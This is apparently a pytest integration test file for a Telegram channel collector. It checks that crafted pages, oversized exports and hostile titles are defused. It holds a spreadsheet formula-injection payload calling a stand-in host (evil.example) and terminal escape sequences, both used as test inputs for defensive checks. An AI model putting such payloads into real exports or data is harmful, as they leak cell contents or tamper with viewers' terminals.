"""Hostile data that tgspread accepts and makes safe: the second table of docs/bad-input.md, one test per row.

docs/bad-input.md's first table lists input that is refused (one line, an exit code, nothing changed;
tests/integration/test_bad_input.py). This one lists data from outside (page markup, export files, titles, texts) that
is taken in and must come out harmless: a crafted web page never aborts the pass, a post text never
becomes a spreadsheet formula, a title never breaks an XML file, a huge message is refused with a
documented limit instead of exhausting memory. Each row's id names a function here (:data:`CASES`); the
test fails when the document and the functions disagree.
"""

from __future__ import annotations

import csv
import json
import re
import sys
import xml.dom.minidom
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from types import FrameType
from typing import Any

import httpx
import pytest

from collector._archive import Archive
from collector._sources.web import PreviewFetcher, WebReport, collect_web

ROOT = Path(__file__).resolve().parents[2]
DOC = ROOT / "docs" / "bad-input.md"
BEGIN = "<!-- hostile-data table: each row is a test in tests/integration/test_hostile_input.py -->"
END = "<!-- end of hostile-data table -->"
WEB = Path(__file__).parents[1] / "fixtures" / "web"
EXPORTS = Path(__file__).parents[1] / "fixtures" / "export"
NOW = datetime(2024, 6, 5, 12, 0, tzinfo=UTC)

Check = Callable[..., None]          # (tmp_path) or, for rows that need a fixture, (tmp_path, request)
CASES: dict[str, Check] = {}


def case(name: str) -> Callable[[Check], Check]:
    def register(fn: Check) -> Check:
        assert name not in CASES, name
        CASES[name] = fn
        return fn
    return register


def doc_ids() -> list[str]:
    text = DOC.read_text(encoding="utf-8")
    table = text[text.index(BEGIN):text.index(END)]
    return [line.split("|")[1].strip() for line in table.splitlines()[3:] if line.startswith("| ")]


# -- web previews: a crafted page never aborts the pass (issue 17, item 21) --------------------------------------
PAGE = (WEB / "channel_page1.html").read_text(encoding="utf-8")


def web_pass(tmp: Path, pages: dict[str, str], channels: list[str]) -> tuple[WebReport, list[tuple[object, ...]]]:
    """One web pass over ``channels`` served ``pages`` (path -> HTML); the report and the runs rows."""
    client = httpx.Client(transport=httpx.MockTransport(
        lambda r: httpx.Response(200, text=pages.get(r.url.path, ""))))
    with Archive(tmp / "archive.duckdb") as archive:
        report = collect_web(archive, channels, now=NOW, max_pages=1,
                             fetcher=PreviewFetcher(client, sleep=lambda s: None, min_interval=0))
        runs = archive.con.execute("SELECT r.status, c.input, c.outcome FROM runs r JOIN run_channels c "
                                   "USING (run_id) ORDER BY c.input").fetchall()
    return report, runs


def _one_crafted_block(tmp: Path, old: str, new: str) -> None:
    """``old`` -> ``new`` in the fixture page: that block is skipped, the other posts stored, the run recorded."""
    assert old in PAGE
    report, runs = web_pass(tmp, {"/s/osint_demo": PAGE.replace(old, new, 1)}, ["osint_demo"])
    (ch,) = report.channels
    assert ch.outcome == "ok", ch.error
    assert ch.new_posts >= 5 and ch.skipped_blocks
    assert runs == [("ok", "osint_demo", "ok")]


@case("web-post-id-superscript")
def _web_superscript(tmp: Path) -> None:
    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/\u00b2"')


@case("web-post-id-5000-digits")
def _web_long_id(tmp: Path) -> None:
    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/' + "9" * 5000 + '"')


@case("web-post-id-above-int64")
def _web_big_id(tmp: Path) -> None:
    _one_crafted_block(tmp, 'data-post="osint_demo/111"', 'data-post="osint_demo/99999999999999999999"')


@case("web-date-before-year-1")
def _web_year_one(tmp: Path) -> None:
    _one_crafted_block(tmp, 'datetime="2024-06-01T10:05:12+00:00"', 'datetime="0001-01-01T00:00:00+01:00"')


@case("web-views-above-int64")
def _web_big_views(tmp: Path) -> None:
    old = re.search(r'tgme_widget_message_views">[^<]+<', PAGE)
    assert old is not None
    report, runs = web_pass(tmp, {"/s/osint_demo": PAGE.replace(
        old.group(0), 'tgme_widget_message_views">99999999999999999999999<', 1)}, ["osint_demo"])
    assert report.channels[0].outcome == "ok" and report.channels[0].new_posts >= 6
    assert runs == [("ok", "osint_demo", "ok")]


@case("web-page-crashing-the-parser")
def _web_parser_crash(tmp: Path) -> None:
    """Whatever a page makes the parser raise, that channel is reported and the next one collected."""
    import collector._sources.web as web

    real = web.parse_page

    def crafted(html: str) -> object:
        if "BOOM" in html:
            raise ValueError("crafted page")
        return real(html)

    pages = {"/s/boom_channel": PAGE.replace("osint_demo", "boom_channel") + "<!-- BOOM -->",
             "/s/osint_demo": PAGE}
    saved, web.parse_page = web.parse_page, crafted          # type: ignore[assignment]
    try:
        report, runs = web_pass(tmp, pages, ["boom_channel", "osint_demo"])
    finally:
        web.parse_page = saved
    outcomes = {c.input: (c.outcome, c.error or "") for c in report.channels}
    assert outcomes["boom_channel"][0] == "error" and "ValueError" in outcomes["boom_channel"][1]
    assert outcomes["osint_demo"] == ("ok", "")
    assert runs == [("partial", "boom_channel", "error"), ("partial", "osint_demo", "ok")]


@case("web-page-100k-nested-divs")
def _web_nested(tmp: Path) -> None:
    """A page nesting 100,000 divs (28 s to parse: the HTML parser's time grows with the square of the depth)."""
    pages = {"/s/deep_channel": "<div>" * 100_000 + PAGE.replace("osint_demo", "deep_channel"),
             "/s/osint_demo": PAGE}
    report, runs = web_pass(tmp, pages, ["deep_channel", "osint_demo"])
    outcomes = {c.input: (c.outcome, c.error or "") for c in report.channels}
    assert outcomes["deep_channel"][0] == "error" and "nests elements 100,0" in outcomes["deep_channel"][1]
    assert outcomes["osint_demo"] == ("ok", "")
    assert runs == [("partial", "deep_channel", "error"), ("partial", "osint_demo", "ok")]


# -- files written for other programs (items 17 and 19) ------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _archive_with_text(tmp: Path, text: str, title: str = "Plain Title") -> Path:
    from collector._archive import upsert as store

    path = tmp / "archive.duckdb"
    with Archive(path) as archive, store.transaction(archive):
        store.upsert_channels(archive, [{"channel_id": 777, "username": "plain_title", "title": title,
                                         "source": "web", "first_seen_at": NOW, "last_seen_at": NOW}], now=NOW)
        store.upsert_posts(archive, [{"channel_id": 777, "message_id": 1, "posted_at": NOW, "text": text,
                                      "post_author": "@admin", "source": "web", "first_seen_at": NOW,
                                      "last_seen_at": NOW}], now=NOW)
    return path


@case("csv-formula-in-text")
def _csv_formula(tmp: Path) -> None:
    from collector._archive.export import ensure_pseudonym_key, export_archive

    path = _archive_with_text(tmp, FORMULA)
    ensure_pseudonym_key(path, wait=0)
    with Archive(path, read_only=True) as archive:
        export_archive(archive, tmp / "out", fmt="csv", tables=["posts", "channels"])
    (posts,) = (tmp / "out" / "posts").rglob("*.csv")
    with posts.open(encoding="utf-8", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["text"] == "'" + FORMULA and row["post_author"] == "'@admin"
    for name in ("=", "+", "-", "@", "\t", "\r"):
        for cell in row.values():
            assert not cell.startswith(name), cell
    # Parquet keeps the text exactly
    export_archive_parquet = tmp / "pq"
    with Archive(path, read_only=True) as archive:
        export_archive(archive, export_archive_parquet, tables=["posts"])
    import duckdb

    got = duckdb.sql(f"SELECT text FROM read_parquet('{export_archive_parquet}/posts/**/*.parquet')").fetchall()
    assert got == [(FORMULA,)]


def _network_archive(tmp: Path, title: str) -> Path:
    from collector._archive import upsert as store

    path = tmp / "archive.duckdb"
    rows = [{"channel_id": 2, "message_id": m, "posted_at": NOW, "text": "x", "fwd_channel_id": 1,
             "fwd_message_id": m, "fwd_posted_at": NOW, "source": "api", "first_seen_at": NOW,
             "last_seen_at": NOW} for m in (1, 2)]
    with Archive(path) as archive, store.transaction(archive):
        store.upsert_channels(archive, [
            {"channel_id": 1, "username": "origin_chan", "title": title, "source": "api",
             "first_seen_at": NOW, "last_seen_at": NOW},
            {"channel_id": 2, "username": "relay_chan", "title": "Relay", "source": "api",
             "first_seen_at": NOW, "last_seen_at": NOW}], now=NOW)
        store.upsert_posts(archive, rows, now=NOW)
    return path


@case("xml-control-character-in-title")
def _xml_title(tmp: Path) -> None:
    import duckdb

    from analysis._export import export_gexf, export_graphml

    path = _network_archive(tmp, "Chan\x1b]0;PWNED\x07\x1b[2J\x00end")
    con = duckdb.connect(str(path), read_only=True)
    try:
        for write, name in ((export_gexf, "n.gexf"), (export_graphml, "n.graphml")):
            out = write(con, tmp / name)
            doc = xml.dom.minidom.parse(str(out))          # raises on a character XML forbids
            assert "Chan\ufffd]0;PWNED\ufffd\ufffd[2J\ufffdend" in doc.toxml()
    finally:
        con.close()


NEEDS_REQUEST = {"notebook-30-control-character-in-title"}


@case("notebook-30-control-character-in-title")
def _notebook_30(tmp: Path, request: pytest.FixtureRequest) -> None:
    """Notebook 30 runs to its end and writes a GEXF that parses, with a control character in a title."""
    import shutil

    import duckdb

    from tests.helpers.notebook_helpers import run_notebook

    archive = tmp / "archive.duckdb"
    shutil.copy2(request.getfixturevalue("notebook_archive"), archive)
    con = duckdb.connect(str(archive))
    try:
        row = con.execute("SELECT fwd_channel_id FROM posts WHERE fwd_channel_id IS NOT NULL AND fwd_message_id "
                          "IS NOT NULL AND fwd_channel_id IN (SELECT channel_id FROM channels) LIMIT 1").fetchone()
        assert row is not None
        con.execute("UPDATE channels SET title = 'Evil\x1b]0;PWNED\x07\x1b[2J' || chr(0) || 'end' WHERE channel_id = ?",
                    [row[0]])
    finally:
        con.close()
    output = tmp / "output"
    run_notebook(ROOT / "notebooks" / "30_channel_network.ipynb", archive, output,
                 request.getfixturevalue("kernel_specs"))
    doc = xml.dom.minidom.parse(str(output / "forward_network.gexf"))
    assert "Evil\ufffd]0;PWNED" in doc.toxml()
    xml.dom.minidom.parse(str(output / "forward_network.graphml"))


# -- unbounded work on crafted input (item 20) --------------------------------------------------------------------
def _one_message_export(path: Path, message_json: str) -> Path:
    """A one-channel export whose second message is ``message_json`` (written as it is, streamed)."""
    with path.open("w", encoding="utf-8") as f:
        f.write('{"name": "Big", "type": "public_channel", "id": 5555555555, "messages": [\n'
                '{"id": 1, "type": "message", "date_unixtime": "1717401600", "text": "fine"},\n')
        f.write(message_json)
        f.write("\n]}\n")
    return path


def _import_in_child(tmp: Path, export: Path) -> tuple[int, str, int]:
    """``tgspread import`` in a child process: (exit code, stderr, the child's peak RSS in MB)."""
    import subprocess
    import sys

    # VmHWM, not ru_maxrss: ru_maxrss carries the forking parent's peak across exec
    code = ("import re, sys\nfrom collector._cli.app import app\ntry:\n    app(prog_name='tgspread')\nfinally:\n"
            "    kb = re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1)\n"
            "    print('PEAK', int(kb) // 1024, file=sys.stderr)")
    proc = subprocess.run([sys.executable, "-c", code, "import", str(export), "--archive", str(tmp / "a.duckdb")],
                          capture_output=True, text=True, timeout=600, cwd=tmp,
                          env={"PATH": "/usr/bin:/bin", "HOME": str(tmp), "PYTHONPATH": str(ROOT)})
    peak = re.search(r"PEAK (\d+)", proc.stderr)
    lines = [line for line in proc.stderr.splitlines() if not line.startswith("PEAK")]
    return proc.returncode, "\n".join(lines), int(peak.group(1)) if peak else -1


def _refused_as_too_large(tmp: Path, message_json: str) -> None:
    export = _one_message_export(tmp / "result.json", message_json)
    code, err, peak_mb = _import_in_child(tmp, export)
    assert code == 2, err
    assert len(err.splitlines()) == 1 and "larger than 1,048,576 bytes" in err and "Nothing was imported" in err, err
    assert peak_mb < 400, peak_mb                      # a few times the limit, not the file
    assert not (tmp / "a.duckdb").exists()


@case("export-message-text-50mb")
def _text_50mb(tmp: Path) -> None:
    _refused_as_too_large(tmp, '{"id": 2, "type": "message", "date_unixtime": "1717401601", "text": "'
                          + "x" * (50 << 20) + '"}')


@case("export-backslashes-84mb")
def _backslashes(tmp: Path) -> None:
    _refused_as_too_large(tmp, '{"id": 2, "type": "message", "date_unixtime": "1717401601", "text": "'
                          + "\\\\" * (42 << 20) + '"}')


@case("export-hashtag-entities-400k")
def _hashtags(tmp: Path) -> None:
    entities = ",".join(['{"type": "hashtag", "text": "#t"}'] * 400_000)
    _refused_as_too_large(tmp, '{"id": 2, "type": "message", "date_unixtime": "1717401601", "text": "", '
                          f'"text_entities": [{entities}]}}')


class _Counting:
    """A DuckDB connection that counts the statements run through it."""

    def __init__(self, con: object) -> None:
        self._real, self.statements = con, 0

    def execute(self, *args: object, **kwargs: object) -> object:
        self.statements += 1
        return self._real.execute(*args, **kwargs)  # type: ignore[attr-defined]

    def __getattr__(self, name: str) -> object:
        return getattr(self._real, name)


class _LineCounter:
    """Counts the Python lines run in tgspread's own code (collector/): an operation count, not a time."""

    def __init__(self) -> None:
        self.lines = 0
        self._root = str(ROOT / "collector")

    def _local(self, frame: FrameType, event: str, arg: object) -> Any:
        if event == "line":
            self.lines += 1
        return self._local

    def _global(self, frame: FrameType, event: str, arg: object) -> Any:
        return self._local if frame.f_code.co_filename.startswith(self._root) else None

    def __enter__(self) -> _LineCounter:
        self._saved = sys.gettrace()
        sys.settrace(self._global)
        return self

    def __exit__(self, *exc: object) -> None:
        sys.settrace(self._saved)


@case("channels-add-20000-names")
def _many_names(tmp: Path) -> None:
    """``channels add`` and ``channels remove`` do work linear in the names (2,000 took 64 s, 20,000 never
    ended): the statements they run do not grow with the names, and the Python lines they run grow at most
    linearly. Each size is checked before the next, ten times larger, is tried, so a quadratic one fails at 200
    names, not after hours."""
    from collector._scheduling.channel_set import add_channels, list_channels, remove_channels

    statements: dict[int, int] = {}
    lines: dict[int, int] = {}
    sizes = (20, 200, 2_000, 20_000)
    with Archive(tmp / "archive.duckdb") as archive:
        for n in sizes:
            names = [f"name{n}_{i:05d}" for i in range(n)] + [f"@name{n}_00000", f"https://t.me/name{n}_00001"]
            archive._con = counting = _Counting(archive.con)     # type: ignore[assignment]
            try:
                with _LineCounter() as counter:
                    changes = add_channels(archive, names, now=NOW)
            finally:
                archive._con = counting._real                   # type: ignore[assignment]
            statements[n], lines[n] = counting.statements, counter.lines
            assert statements[n] == statements[sizes[0]], f"statements grow with the names: {statements}"
            if n != sizes[0]:     # 10x the names: linear work is at most ~10x the lines (quadratic: ~100x)
                prev = sizes[sizes.index(n) - 1]
                assert lines[n] <= 12 * lines[prev], f"Python lines run grow faster than the names: {lines}"
            assert [c.outcome for c in changes].count("added") == n
            assert [c.outcome for c in changes[-2:]] == ["already", "already"]
            assert changes[-1].entry == changes[1].entry
        entries = list_channels(archive)
        total = sum(sizes)
        assert len(entries) == total and len({e.entry_id for e in entries}) == total
        assert [e.input for e in entries[:2]] == ["name20_00000", "name20_00001"]
        # `channels remove` alike (it read the whole set once per name): the same probes
        for n in sizes:
            names = [f"@name{n}_{i:05d}" for i in range(n)] + [f"name{n}_00000", "not_in_the_set"]
            archive._con = counting = _Counting(archive.con)     # type: ignore[assignment]
            try:
                with _LineCounter() as counter:
                    changes = remove_channels(archive, names, now=NOW)
            finally:
                archive._con = counting._real                   # type: ignore[assignment]
            statements[n], lines[n] = counting.statements, counter.lines
            assert statements[n] == statements[sizes[0]], f"statements grow with the names: {statements}"
            if n != sizes[0]:
                prev = sizes[sizes.index(n) - 1]
                assert lines[n] <= 12 * lines[prev], f"Python lines run grow faster than the names: {lines}"
            assert [c.outcome for c in changes] == ["removed"] * n + ["absent", "absent"]
            assert changes[0].entry is not None and changes[0].entry.input == f"name{n}_00000"
        assert list_channels(archive) == []
        assert len(list_channels(archive, include_removed=True)) == total


# -- the document and the cases agree ---------------------------------------------------------------------------
def test_the_document_lists_every_hostile_case() -> None:
    ids = doc_ids()
    assert len(ids) == len(set(ids)), "duplicate ids in the hostile-data table"
    assert sorted(ids) == sorted(CASES)


def test_every_other_case_names_a_test_that_exists() -> None:
    """The third table of docs/bad-input.md: each case tested elsewhere names its test, and that test exists."""
    text = DOC.read_text(encoding="utf-8")
    table = text[text.index("<!-- other hostile cases: each row names its test -->"):
                 text.index("<!-- end of other hostile cases -->")]
    rows = [line for line in table.splitlines()[3:] if line.startswith("| ")]
    ids = [row.split("|")[1].strip() for row in rows]
    assert len(ids) == len(set(ids)) and len(ids) >= 19
    for row in rows:
        test = re.search(r"`(tests/[\w/]+\.py)::(test_\w+)`", row)
        assert test is not None, row
        source = (ROOT / test.group(1)).read_text(encoding="utf-8")
        assert re.search(rf"^(async )?def {test.group(2)}\(", source, re.M), row


@pytest.mark.parametrize("name", [pytest.param(n, marks=pytest.mark.slow) if n in NEEDS_REQUEST else n
                                  for n in doc_ids()])
def test_hostile_row(name: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    if name in NEEDS_REQUEST:
        CASES[name](tmp_path, request)
    else:
        CASES[name](tmp_path)


def test_json_of_the_cases_is_plain() -> None:
    """The ids are plain words (they are table cells and test ids)."""
    assert all(re.fullmatch(r"[a-z0-9-]+", n) for n in CASES), json.dumps(sorted(CASES))


def test_one_channel_written_five_ways_is_collected_once(tmp_path: Path) -> None:
    """Item 28: ``durov``, ``@Durov``, links and ``tg://`` name one channel: one pass over it, one row."""
    from collector._parse.channel_ref import distinct_channels

    five = ["osint_demo", "@OSINT_demo", "https://t.me/osint_demo", "t.me/s/osint_demo/110",
            "tg://resolve?domain=osint_demo"]
    assert distinct_channels([*five, "not a name!", "not a name!"]) == ["osint_demo", "not a name!"]
    requests: list[str] = []

    def answer(r: httpx.Request) -> httpx.Response:
        requests.append(r.url.path)
        return httpx.Response(200, text=PAGE)

    client = httpx.Client(transport=httpx.MockTransport(answer))
    with Archive(tmp_path / "archive.duckdb") as archive:
        report = collect_web(archive, five, now=NOW, max_pages=1,
                             fetcher=PreviewFetcher(client, sleep=lambda s: None, min_interval=0))
    assert [c.input for c in report.channels] == ["osint_demo"] and requests == ["/s/osint_demo"]


def test_one_channel_written_five_ways_is_collected_once_through_the_api(tmp_path: Path) -> None:
    from collector._simulated import generate_world
    from tests.helpers.simworld import run_pass

    world = generate_world(3, channels=2, days=1)
    name = next(s for s in world.seeds if not s.lstrip("-").isdigit())
    five = [name, "@" + name.upper(), f"https://t.me/{name}", f"t.me/s/{name}/1", f"tg://resolve?domain={name}"]
    report = run_pass(world, tmp_path / "a.duckdb", five)
    assert [c.input for c in report.channels] == [name]
